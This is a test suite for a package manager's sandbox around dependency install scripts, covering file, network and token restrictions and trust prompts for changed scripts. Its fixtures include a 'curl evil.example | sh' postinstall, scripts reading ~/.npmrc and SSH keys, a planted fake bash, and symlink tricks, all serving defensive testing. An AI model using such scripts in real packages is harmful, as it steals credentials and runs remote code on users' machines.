// Lifecycle scripts of dependencies that `rt install` runs: permissions by default, [install.permissions], explanations.
import { describe, expect, test } from "bun:test";
import {
  chmodSync,
  chownSync,
  existsSync,
  mkdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { dirname, join } from "node:path";
import { findProgram } from "../../build/system-programs.ts";
import { CAN_TRACE } from "../cache/cached-project.ts";
import { createProject, type Files, type Project } from "../support/project.ts";
import { openRegistry, type PublishedPackage, type Registry } from "../options/registry.ts";
import { cleanEnvironment, RT, runRt } from "../support/rt.ts";
import { startOnTerminal } from "../support/programs/terminal.ts";
import { hashIn } from "../support/trusted.ts";
import { placeRt } from "../support/programs/programs.ts";
import { AS_OTHER_USER, isRoot, OTHER_USER_ID } from "../support/users.ts";

/** A package whose postinstall is this program, run by Node.js. */
function withProgram(name: string, program: string, files: Files = {}): PublishedPackage {
  return {
    name,
    version: "1.0.0",
    files: { "install.js": program, "data.txt": "original\n", ...files },
    manifest: { scripts: { postinstall: "node install.js" } },
  };
}

/** Tries each of these statements, and writes the results into the package. */
function attempts(statements: Readonly<Record<string, string>>): string {
  const entries = Object.entries(statements).map(
    ([name, code]) =>
      `try { ${code}; results.${name} = "done" } catch (error) { results.${name} = error.code }`,
  );
  return `const fs = require("fs"), results = {}; ${entries.join("; ")}; fs.writeFileSync("results.json", JSON.stringify(results));`;
}

const PACKAGES: readonly PublishedPackage[] = [
  withProgram(
    "reader",
    attempts({
      npmrc: 'fs.readFileSync(process.env.REAL_HOME_PATH || require("os").userInfo().homedir + "/.npmrc")',
      own: 'fs.appendFileSync("data.txt", "changed")',
      beside: 'fs.writeFileSync("../other/planted.js", "")',
      project: 'fs.writeFileSync("../../planted.js", "")',
      dependency: 'require("../other/index.js")',
      temporary: 'fs.writeFileSync(require("os").tmpdir() + "/x", "")',
      home: 'fs.writeFileSync(require("os").homedir() + "/x", "")',
    }),
    // Files that the engine reads in the working directory of rt, which is not restricted.
    {
      "bunfig.toml": 'preload = ["./preload.js"]\n',
      "preload.js": 'require("fs").writeFileSync(`${process.env.INIT_CWD}/preloaded`, "");',
      "tsconfig.json": "{",
      ".env": "RT_INSTALL_SCRIPTS={}\nRT_TRACED=1\nPATH=.\nBUN_OPTIONS=--preload=./preload.js\n",
    },
  ),
  { name: "other", version: "1.0.0", files: { "index.js": "" } },
  withProgram(
    "variables",
    'const { INIT_CWD, npm_package_name, npm_lifecycle_event, npm_config_user_agent, NPM_TOKEN, MIRROR, XDG_CACHE_HOME } = process.env; require("fs").writeFileSync("results.json", JSON.stringify({ INIT_CWD, npm_package_name, npm_lifecycle_event, agent: npm_config_user_agent.split("/")[0], NPM_TOKEN, MIRROR, XDG_CACHE_HOME, home: require("os").homedir() }));',
  ),
  withProgram(
    "downloader",
    'fetch(`http://127.0.0.1:${require("fs").readFileSync(process.env.INIT_CWD + "/package.json", "utf8").match(/"port": ?(\\d+)/)[1]}/`, { method: "POST", body: "taken" }).then(async (response) => require("fs").writeFileSync("results.json", JSON.stringify(await response.text())), () => process.exit(Number(process.argv[2] ?? 0)));',
  ),
  {
    name: "strict-downloader",
    version: "1.0.0",
    files: { "install.js": 'fetch("http://127.0.0.1:19999/").catch(() => process.exit(7));' },
    manifest: { scripts: { install: "node install.js" } },
  },
  {
    name: "shell",
    version: "1.0.0",
    files: { "bash.sh": "#!/bin/sh\ntouch $INIT_CWD/hijacked\n" },
    manifest: { bin: { bash: "bash.sh" } },
  },
];

interface Situation {
  readonly registry: Registry;
  readonly project: Project;
  run(
    args?: readonly string[],
    env?: Record<string, string | undefined>,
    program?: readonly string[],
  ): ReturnType<typeof runRt>;
  resultsOf(name: string): unknown;
  write(files: Files): Promise<void>;
  /** Removes an installed package, so that it is installed again. */
  remove(name: string): void;
}

/** Calls `use` in a project that trusts all of these packages. */
async function inProject(
  names: readonly string[],
  use: (situation: Situation) => Promise<void>,
  more: object = {},
) {
  await using registry = await openRegistry(PACKAGES.filter(({ name }) => names.includes(name)));
  await using project = await createProject({
    "home/.npmrc": "//registry.example/:_authToken=token\n",
    "home/.ssh/id_ed25519": "key\n",
    "shop/package.json": {
      name: "shop",
      trustedDependencies: names,
      dependencies: Object.fromEntries(names.map((name) => [name, "1.0.0"])),
      ...more,
    },
  });
  const home = project.join("home");
  await use({
    registry,
    project,
    run: (args = ["install"], env = {}, program) =>
      runRt({
        args,
        program,
        cwd: project.join("shop"),
        env: { ...registry.env, HOME: home, NPM_TOKEN: "token", ...env },
      }),
    resultsOf: (name) =>
      JSON.parse(readFileSync(project.join("shop/node_modules", name, "results.json"), "utf8")),
    remove: (name) => rmSync(project.join("shop/node_modules", name), { recursive: true, force: true }),
    write: (files) =>
      project.write(Object.fromEntries(Object.entries(files).map(([name, text]) => [`shop/${name}`, text]))),
  });
}

describe.skipIf(process.platform !== "linux")("install scripts", () => {
  test("a script writes only its folder and temporary files, and does not change the cache of the installer", async () => {
    await inProject(["reader", "other", "shell"], async ({ run, resultsOf, project, registry }) => {
      const { stderr, status } = await run();
      expect([status, stderr]).toEqual([0, expect.not.stringContaining("error") as string]);
      const refused = { beside: "EACCES", project: "EACCES" };
      const allowed = { own: "done", dependency: "done", temporary: "done", home: "done" };
      expect(resultsOf("reader")).toEqual({
        ...refused,
        ...allowed,
        npmrc: expect.stringMatching(/EACCES|ENOENT/),
      });
      for (const name of ["hijacked", "preloaded"])
        expect(existsSync(project.join("shop", name))).toBe(false);
      const data = (folder: string) => readFileSync(join(folder, "data.txt"), "utf8");
      expect(data(project.join("shop/node_modules/reader"))).toBe("original\nchanged");
      const cached = [...new Bun.Glob("reader@*/data.txt").scanSync(registry.cache)];
      expect(cached.map((path) => readFileSync(join(registry.cache, path), "utf8"))).toEqual(["original\n"]);
    });
  });

  test("a script reads neither .npmrc nor keys of HOME, and --explain names both with the line that allows them", async () => {
    const read = attempts({
      npmrc: 'fs.readFileSync(process.env.INIT_CWD + "/../home/.npmrc")',
      key: 'fs.readFileSync(process.env.INIT_CWD + "/../home/.ssh/id_ed25519")',
    });
    await inProject(["thief"], async ({ registry, run, resultsOf, write, remove }) => {
      await registry.publish(withProgram("thief", read));
      const explained = await run(["install", "--explain"]);
      expect(resultsOf("thief")).toEqual({ npmrc: "EACCES", key: "EACCES" });
      expect(explained.status).toBe(0);
      const add = "to allow it, add to [install.permissions.thief] of rtfig.toml: read =";
      expect(explained.stderr).toMatch(
        /warning: thief \(postinstall\) was refused: node \(process \d+\) reads \S+\/home\/.npmrc;/,
      );
      expect(explained.stderr).toContain(`${add} ["~/.npmrc"]`);
      expect(explained.stderr).toContain(`${add} ["~/.ssh/**"]`);
      remove("thief");
      expect((await run(["install", "--explain", "--locked"])).status).toBe(1);
      remove("thief");
      expect((await run(["install", "--no-permissions"])).status).toBe(0);
      expect(resultsOf("thief")).toEqual({ npmrc: "done", key: "done" });
      remove("thief");
      await write({ "rtfig.toml": '[install.permissions.thief]\nread = ["~/.npmrc"]\n' });
      const untrusted = await run();
      expect(untrusted.stderr).toContain("install scripts of thief may read ~/.npmrc");
      expect((await run(["install"], { RT_TRUST: hashIn(untrusted) })).status).toBe(0);
      expect(resultsOf("thief")).toEqual({ npmrc: "done", key: "EACCES" });
    });
  });

  test("an update of one of two versions is stopped, and an installation without it forgets the change", async () => {
    await inProject(["updated"], async ({ registry, run, project, write }) => {
      const env = { XDG_STATE_HOME: project.join("state") };
      const publish = (version: string, scripts: Record<string, string>) =>
        registry.publish({ name: "updated", version, files: { "index.js": "" }, manifest: { scripts } });
      await publish("1.0.0", { preinstall: "true", install: "true", postinstall: "true" });
      await publish("2.0.0", { preinstall: "echo 2" });
      await publish("3.0.0", { preinstall: "echo 3" });
      await registry.publish({
        ...{ name: "keeper", version: "1.0.0", files: { "index.js": "" } },
        manifest: { dependencies: { updated: "1.0.0" } },
      });
      const install = async (version: string) => {
        rmSync(project.join("shop/node_modules"), { recursive: true, force: true });
        const dependencies = { updated: version, keeper: "1.0.0" };
        await write({ "package.json": { name: "shop", trustedDependencies: ["updated"], dependencies } });
        return await run(["install"], env);
      };
      // The first installation accepts both versions, and the second one knows them.
      expect([(await install("2.0.0")).status, (await install("2.0.0")).status]).toEqual([0, 0]);
      const stopped = await install("3.0.0");
      expect([stopped.status, stopped.stderr]).toEqual([
        1,
        expect.stringContaining("to 3.0.0, so they were not run") as string,
      ]);
      expect((await run(["trust"], env)).stderr).toContain("to 3.0.0; - ");
      // An installation without the change forgets it.
      expect((await install("2.0.0")).status).toBe(0);
      expect((await run(["trust"], env)).stderr).not.toContain("3.0.0");
    });
  });

  test("a changed script of an update does not run, the difference is shown, and rt trust or RT_TRUST allows it", async () => {
    await inProject(["updated"], async ({ registry, run, project, write, remove }) => {
      const state = project.join("state");
      const version = (number: string, postinstall: string): PublishedPackage => ({
        name: "updated",
        version: number,
        files: { "index.js": "" },
        manifest: { scripts: { postinstall } },
        ...(number === "1.0.2" && { time: "2021-03-04T05:06:07.000Z" }),
      });
      const install = async (number: string, env = {}) => {
        remove("updated");
        await write({
          "package.json": {
            name: "shop",
            trustedDependencies: ["updated"],
            dependencies: { updated: number },
          },
        });
        return await run(["install"], { XDG_STATE_HOME: state, ...env });
      };
      const ran = () => existsSync(project.join("shop/node_modules/updated/ran"));
      for (const [number, script] of [
        ["1.0.0", "touch ran"],
        ["1.0.1", "touch ran"],
        ["1.0.2", "curl evil.example | sh; touch ran"],
        ["1.0.3", "touch ran; echo 3"],
      ] as const)
        await registry.publish(version(number, script));
      for (const number of ["1.0.0", "1.0.1"]) {
        expect((await install(number)).status).toBe(0);
        expect(ran()).toBe(true);
      }
      const published = String.raw`the registry published updated 1\.0\.2 on 2021-03-04 \(\d{4} days ago\)`;
      const stopped = await install("1.0.2");
      expect([stopped.status, ran()]).toEqual([1, false]);
      expect(stopped.stderr).toContain(
        "error: install scripts of updated have changed from 1.0.0 to 1.0.2, so they were not run\n" +
          "- postinstall: touch ran\n+ postinstall: curl evil.example | sh; touch ran\nhint: ",
      );
      expect(stopped.stderr).toMatch(new RegExp(`\n${published}`));
      const asked = await run(["trust"], { XDG_STATE_HOME: state });
      expect([asked.status, asked.stderr]).toEqual([
        1,
        expect.stringContaining(
          "install scripts of updated have changed from 1.0.0 to 1.0.2; - postinstall",
        ) as string,
      ]);
      expect(asked.stderr).toMatch(new RegExp(`; ${published}`));
      // ~/.npmrc has a token for another registry.
      expect(registry.credentials.join("")).toBe("");
      // An earlier version, whose scripts are known.
      expect([(await install("1.0.0")).status, ran()]).toEqual([0, true]);
      const other = await install("1.0.3");
      expect([other.status, ran()]).toEqual([1, false]);
      const hash = hashIn(other);
      expect([(await install("1.0.3", { RT_TRUST: hash })).status, ran()]).toEqual([0, true]);
      expect([(await install("1.0.3")).status, ran()]).toEqual([0, true]);
      await install("1.0.2");
      const env = cleanEnvironment({
        HOME: project.join("home"),
        XDG_STATE_HOME: state,
        BUN_CONFIG_REGISTRY: "http://127.0.0.1:9/",
      });
      await using terminal = startOnTerminal([RT, "trust"], env, { cwd: project.join("shop") });
      await terminal.awaitOutput("the registry does not say when updated 1.0.2 was published");
      await terminal.awaitOutput("Allow it? [y/N]");
      terminal.type("y\r");
      await terminal.awaitOutput("allowed: install scripts of updated 1.0.2");
      expect(await terminal.awaitExit()).toBe(0);
      const again = await run(["trust"], { XDG_STATE_HOME: state });
      expect(again.stdout + again.stderr).not.toContain("updated");
      expect([(await install("1.0.2")).status, ran()]).toEqual([0, true]);
    });
  });

  test("scripts that run for the first time are shown with the date of their release, by pm trust before they run", async () => {
    await inProject(["fresh", "blocked"], async ({ registry, run, project, write, remove }) => {
      const time = "2021-03-04T05:06:07.000Z";
      for (const name of ["fresh", "blocked"]) {
        const manifest = { scripts: { preinstall: "echo pre", postinstall: "touch ran" } };
        await registry.publish({ name, version: "1.0.0", files: { "index.js": "" }, time, manifest });
      }
      const dependencies = { fresh: "1.0.0", blocked: "1.0.0" };
      await write({ "package.json": { name: "shop", trustedDependencies: ["fresh"], dependencies } });
      const env = { XDG_STATE_HOME: project.join("state"), CI: undefined };
      const noteOn = (name: string) =>
        `note: install scripts of ${name} 1.0.0: preinstall: echo pre; postinstall: touch ran; ` +
        `the registry published ${name} 1.0.0 on 2021-03-04 (`;
      const first = await run(["install"], env);
      expect(first.stderr.match(/note: .*? \(/g)).toEqual([noteOn("fresh")]);
      remove("fresh");
      expect((await run(["install"], env)).stderr).not.toContain("note: ");
      // The installer writes its lines before it starts scripts.
      const trusted = await run(["pm", "trust", "blocked"], env);
      expect(trusted.stderr.match(/note: .*? \(/g)).toEqual([noteOn("blocked")]);
      expect(existsSync(project.join("shop/node_modules/blocked/ran"))).toBe(true);
      const inCi = { XDG_STATE_HOME: project.join("other-state"), CI: "true" };
      remove("fresh");
      expect((await run(["install"], inCi)).stderr).not.toContain("note: ");
    });
  });

  test("rt x and rt create limit the scripts of what they fetch, and of what a template installs", async () => {
    const report =
      'const fs = require("fs"), results = {}; for (const [name, file] of Object.entries({ own: "ran", outside: "../planted" })) try { fs.writeFileSync(file, ""); results[name] = "done"; } catch (error) { results[name] = error.code; } fs.writeFileSync("results.json", JSON.stringify(results));';
    const show =
      '#!/usr/bin/env node\nconsole.log(require("fs").readFileSync(`${__dirname}/results.json`, "utf8"))\n';
    const packages = ["tool", "create-app"].map((name) => ({
      ...withProgram(name, report, { "show.js": show }),
      manifest: { bin: { [name]: "show.js" }, scripts: { postinstall: "node install.js" } },
    }));
    await using registry = await openRegistry(packages);
    await using project = await createProject({
      "work/package.json": {},
      "home/.bun-create/local/package.json": {
        name: "local",
        dependencies: { tool: "1.0.0" },
        trustedDependencies: ["tool"],
      },
    });
    // The engine's own list of trusted packages counts for npm's registry only.
    for (const name of ["tool@1.0.0", "create-app@latest"]) {
      const folder = join(registry.cache, `.bunx-${process.getuid!()}`, name);
      mkdirSync(folder, { recursive: true, mode: 0o700 });
      writeFileSync(
        join(folder, "package.json"),
        JSON.stringify({ trustedDependencies: ["tool", "create-app"] }),
      );
    }
    const env = {
      ...registry.env,
      HOME: project.join("home"),
      XDG_STATE_HOME: project.join("state"),
    };
    const run = (...args: string[]) => runRt({ args, cwd: project.join("work"), env });
    const limited = `${JSON.stringify({ own: "done", outside: "EACCES" })}\n`;
    expect((await run("x", "tool@1.0.0")).stdout).toContain(limited);
    expect((await run("create", "app")).stdout).toContain(limited);
    expect((await run("create", "local", "new")).status).toBe(0);
    expect(`${readFileSync(project.join("work/new/node_modules/tool/results.json"), "utf8")}\n`).toBe(
      limited,
    );
  });

  test("the date of a release is not that of a package with the name of an alias", async () => {
    await inProject(["real"], async ({ registry, run, project, write, remove }) => {
      const time = "2021-03-04T05:06:07.000Z";
      const publish = async (name: string, version: string, postinstall: string) =>
        await registry.publish({
          ...{ name, version, files: { "index.js": "" }, time },
          manifest: { scripts: { postinstall } },
        });
      for (const name of ["real", "alias"]) {
        await publish(name, "2.0.0", "touch ran");
        await publish(name, "2.0.1", "touch ran; echo 1");
      }
      const install = async (version: string) => {
        remove("alias");
        const dependencies = { alias: `npm:real@${version}` };
        await write({ "package.json": { name: "shop", trustedDependencies: ["real"], dependencies } });
        return await run(["install"], { XDG_STATE_HOME: project.join("state") });
      };
      expect((await install("2.0.0")).status).toBe(0);
      expect((await install("2.0.1")).stderr).toContain(
        "\nthe registry does not say when alias 2.0.1 was published\n",
      );
    });
  });

  test("a script gets the installer's variables, a temporary HOME, and no token", async () => {
    await inProject(["variables"], async ({ run, resultsOf, project, write }) => {
      await write({ "rtfig.toml": '[install.permissions.variables]\nenv = ["MIRROR"]\n' });
      await run(["install"], { MIRROR: "mirror", XDG_CACHE_HOME: project.join("home/cache") });
      const results = resultsOf("variables") as { home: string };
      expect(results).toEqual({
        INIT_CWD: project.join("shop"),
        npm_package_name: "variables",
        npm_lifecycle_event: "postinstall",
        agent: "bun",
        MIRROR: "mirror",
        home: expect.any(String),
      } as never);
      expect(results.home).not.toStartWith(project.path);
    });
  });

  test("a script has no network but its hosts, and the refusal is shown although the script succeeds", async () => {
    const received: string[] = [];
    using server = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      async fetch(request) {
        received.push(await request.text());
        return new Response("binary");
      },
    });
    await inProject(
      ["downloader"],
      async ({ run, resultsOf, write, remove }) => {
        const refused = await run();
        expect([refused.status, received]).toEqual([0, []]);
        expect(refused.stderr).toContain(`connects to 127.0.0.1:${server.port}; `);
        expect(refused.stderr).toContain("[install.permissions.downloader] of rtfig.toml: hosts =");
        remove("downloader");
        await write({ "rtfig.toml": '[install.permissions.downloader]\nhosts = ["localhost:*"]\n' });
        expect((await run()).status).toBe(0);
        expect([received, resultsOf("downloader")]).toEqual([["taken"], "binary"]);
      },
      { port: server.port },
    );
  });

  test("a failing script fails the installation with its code and shows the refusal, but not that of an optional dependency", async () => {
    await inProject(["strict-downloader"], async ({ run, write }) => {
      const { stderr, status } = await run();
      expect(status).toBe(7);
      expect(stderr).toContain("strict-downloader (install) was refused: node");
      expect(stderr).toContain('install script from "strict-downloader" exited with 7');
      await write({
        "package.json": {
          name: "shop",
          trustedDependencies: ["strict-downloader"],
          optionalDependencies: { "strict-downloader": "1.0.0" },
        },
      });
      expect((await run()).status).toBe(0);
    });
  });

  test("a script cannot write outside of its folder by links that rt would follow before its next script", async () => {
    // Copies of rt were once named after the file and the process.
    const program = `const fs = require("fs"); fs.writeFileSync("file", "planted"); fs.linkSync("file", "twin");
      for (let pid = process.pid; pid < process.pid + 500; pid += 1) fs.symlinkSync("../../planted.js", "file.rt-" + pid);`;
    await inProject(["planter"], async ({ registry, run, project }) => {
      await registry.publish({
        name: "planter",
        version: "1.0.0",
        files: { "plant.js": program },
        manifest: { scripts: { preinstall: "node plant.js", postinstall: "touch done" } },
      });
      const { stderr, status } = await run();
      expect([status, stderr]).toEqual([0, expect.not.stringContaining("error") as string]);
      expect(existsSync(project.join("shop/node_modules/planter/done"))).toBe(true);
      expect(existsSync(project.join("shop/planted.js"))).toBe(false);
    });
  });

  test("a script that a signal ends shows its refusals", async () => {
    const program = 'fetch("http://127.0.0.1:19999/").catch(() => process.kill(process.pid, "SIGTERM"));';
    await inProject(["fragile"], async ({ registry, run }) => {
      await registry.publish(withProgram("fragile", program));
      const { stderr, status } = await run();
      expect(status).not.toBe(0);
      expect(stderr).toContain("warning: fragile (postinstall) was refused: node");
      expect(stderr).toContain("warning: fragile (postinstall) ran with permissions; ");
    });
  });

  test("a missing folder of temporary files is an error", async () => {
    await inProject(["reader"], async ({ run, project }) => {
      // The links of rt go there; without it, they would stay in /tmp.
      mkdirSync(project.join("runtime"), { mode: 0o700 });
      const { stderr, status } = await run(["install"], {
        TMPDIR: project.join("absent"),
        XDG_RUNTIME_DIR: project.join("runtime"),
      });
      expect([status, stderr]).toEqual([
        1,
        `error: Cannot create a private directory: ${project.join("absent")} (ENOENT)\nhint: set TMPDIR to a directory that can be written to\n`,
      ]);
    });
  });

  test("a script succeeds if its temporary files cannot be removed", async () => {
    const program = `const fs = require("fs"), folder = require("os").tmpdir() + "/closed"; fs.mkdirSync(folder); fs.writeFileSync(folder + "/file", ""); fs.chmodSync(folder, 0o500);`;
    await inProject(["untidy"], async ({ registry, run, project }) => {
      await registry.publish(withProgram("untidy", program));
      for (const folder of [project.join("home"), project.join("shop"), registry.cache])
        Bun.spawnSync(["chmod", "-R", "a+rwX", folder]);
      await placeRt(project.join("rt"));
      // Only this user can change the folder and its parents; otherwise the links of rt would be in /tmp.
      chmodSync(project.path, 0o755);
      const TMPDIR = project.join("tmp");
      mkdirSync(TMPDIR, { mode: 0o700 });
      if (isRoot) chownSync(TMPDIR, OTHER_USER_ID, OTHER_USER_ID);
      const { stderr, status } = await run(["install"], { TMPDIR }, [...AS_OTHER_USER, project.join("rt")]);
      expect([status, stderr]).toEqual([0, expect.not.stringContaining("error") as string]);
    });
  });

  test("a script of the project itself is not restricted, and a script of a package that is not trusted does not run", async () => {
    await inProject(
      ["reader", "shell"],
      async ({ run, project }) => {
        expect((await run()).status).toBe(0);
        expect(existsSync(project.join("shop/hijacked"))).toBe(false);
        expect(readFileSync(project.join("shop/copy"), "utf8")).toContain("token");
        expect(existsSync(project.join("shop/node_modules/reader/results.json"))).toBe(false);
      },
      { trustedDependencies: [], scripts: { postinstall: "cat ../home/.npmrc > copy" } },
    );
  });

  test("permissions = false for a package needs trust, and then its scripts are not restricted", async () => {
    await inProject(["reader", "other"], async ({ run, resultsOf, write }) => {
      await write({ "rtfig.toml": "[install.permissions]\nreader = false\n" });
      const untrusted = await run();
      expect([untrusted.status, untrusted.stderr]).toEqual([
        1,
        expect.stringContaining("install scripts of reader may do everything") as string,
      ]);
      expect((await run(["install"], { RT_TRUST: hashIn(untrusted) })).status).toBe(0);
      expect(resultsOf("reader")).toMatchObject({ beside: "done", project: "done" });
    });
  });

  test("permissions = false in [install] needs trust, and --permissions overrides it", async () => {
    await inProject(["reader", "other"], async ({ run, resultsOf, write, remove }) => {
      await write({ "rtfig.toml": "[install]\npermissions = false\n" });
      const untrusted = await run();
      expect([untrusted.status, untrusted.stderr]).toEqual([
        1,
        expect.stringContaining("install scripts may do everything") as string,
      ]);
      expect((await run(["install", "--permissions"])).status).toBe(0);
      expect(resultsOf("reader")).toMatchObject({ beside: "EACCES", project: "EACCES" });
      remove("reader");
      expect((await run(["install"], { RT_TRUST: hashIn(untrusted) })).status).toBe(0);
      expect(resultsOf("reader")).toMatchObject({ beside: "done", project: "done" });
    });
  });

  test.skipIf(!CAN_TRACE)("scripts are not restricted in a traced task, with a warning", async () => {
    const scripts = { setup: "rt install" };
    await inProject(
      ["reader", "other"],
      async ({ registry, run, resultsOf, write }) => {
        const env = JSON.stringify(Object.keys(registry.env));
        await write({ "rtfig.toml": `[tasks.setup]\ncache = true\nenv = ${env}\n` });
        const { stdout, stderr, status } = await run(["run", "setup"]);
        expect([status, stdout + stderr]).toEqual([
          0,
          expect.stringContaining(
            "warning: install scripts run without permissions: the cached task is traced\n",
          ) as string,
        ]);
        expect(resultsOf("reader")).toMatchObject({ beside: "done", project: "done" });
      },
      { scripts },
    );
  });

  // Only some installations of Node.js have its headers.
  if (existsSync(join(dirname(realpathSync(findProgram("node"))), "../include/node/node_api.h")))
    test("a native module is built by node-gyp", async () => {
      const native: PublishedPackage = {
        name: "native",
        version: "1.0.0",
        files: {
          "binding.gyp": '{ "targets": [{ "target_name": "native", "sources": ["native.c"] }] }',
          "native.c":
            "#include <node_api.h>\nNAPI_MODULE_INIT() { napi_value value; napi_create_int32(env, 42, &value); return value; }\n",
        },
        manifest: { gypfile: true, scripts: { install: "node-gyp rebuild" } },
      };
      await inProject(["native"], async ({ registry, run, project }) => {
        await registry.publish(native);
        const { stderr, status } = await run();
        expect([status, stderr]).toEqual([0, expect.not.stringContaining("error") as string]);
        const built = project.join("shop/node_modules/native/build/Release/native.node");
        const { stdout } = Bun.spawnSync(["node", "-p", `require(${JSON.stringify(built)})`]);
        expect(stdout.toString()).toBe("42\n");
      });
    });
});
